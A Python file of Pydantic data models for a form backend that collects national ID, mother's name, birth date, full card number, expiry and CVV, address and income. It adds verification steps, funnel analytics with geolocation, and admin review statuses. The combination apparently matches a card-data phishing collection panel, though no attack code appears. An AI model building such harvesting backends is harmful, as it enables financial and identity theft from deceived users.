from typing import Any, Dict, Literal, Optional, Union
from pydantic import BaseModel, ConfigDict, Field

IssueCategory = Literal["limit", "bugs", "increaseLimit", "loan", "other"]
StepName = Literal["birthDate", "motherName"]

class SubmissionForm(BaseModel):
    """Typed form payload. Unknown keys are dropped, never stored."""
    model_config = ConfigDict(extra="ignore", str_strip_whitespace=True)

    nationalId: str = ""
    issueCategory: Optional[IssueCategory] = None

    fullName: Optional[str] = None
    birthDate: Optional[str] = None
    motherName: Optional[str] = None
    gender: Optional[str] = None

    # Write-only secrets: validated and masked on intake
    cardNumber: Optional[str] = None
    cardExpiry: Optional[str] = None
    cardCvv: Optional[str] = None

    postalCode: Optional[str] = None
    street: Optional[str] = None
    number: Optional[str] = None
    complement: Optional[str] = None
    district: Optional[str] = None
    city: Optional[str] = None
    state: Optional[str] = None

    income: Optional[float] = None
    currentLimit: Optional[float] = None
    desiredLimit: Optional[float] = None

class CreateSubmissionRequest(BaseModel):
    sessionId: str = ""
    formData: Dict[str, Any] = Field(default_factory=dict)
    userAgent: Optional[str] = None
    # Epoch ms or ISO-8601
    timestamp: Optional[Union[int, str]] = None
    location: Optional[Dict[str, Any]] = None

class SubmissionCreated(BaseModel):
    id: str
    protocol: str
    timestamp: Optional[str] = None

class VerificationStepRequest(BaseModel):
    step: StepName
    value: Optional[str] = None

class VerificationStepResponse(BaseModel):
    outcome: Literal["failed", "partial", "succeeded"]
    status: str
    attempts: int
    verified: bool

class ValidateRequest(BaseModel):
    value: str = ""
    sessionId: Optional[str] = None

class ValidateResponse(BaseModel):
    valid: bool
    formatted: str = ""

class AnalyticsEventRequest(BaseModel):
    """Client funnel event. Unknown keys are dropped; the IP comes from the request."""
    model_config = ConfigDict(extra="ignore", str_strip_whitespace=True)

    eventType: str = Field(min_length=1, max_length=64)
    sessionId: str = Field(min_length=1, max_length=128)
    userAgent: Optional[str] = None
    screenResolution: Optional[str] = Field(default=None, max_length=32)
    referrer: Optional[str] = Field(default=None, max_length=2048)
    step: Optional[str] = Field(default=None, max_length=64)
    duration: Optional[float] = Field(default=None, ge=0)
    location: Optional[Dict[str, Any]] = None
    formData: Optional[Dict[str, Any]] = None
    formSteps: Optional[Dict[str, Any]] = None
    customData: Optional[Dict[str, Any]] = None

class StatusUpdateRequest(BaseModel):
    status: Literal["new", "inReview", "handled", "cancelled"]

class CommentRequest(BaseModel):
    comment: str = ""
    adminUser: Optional[str] = None
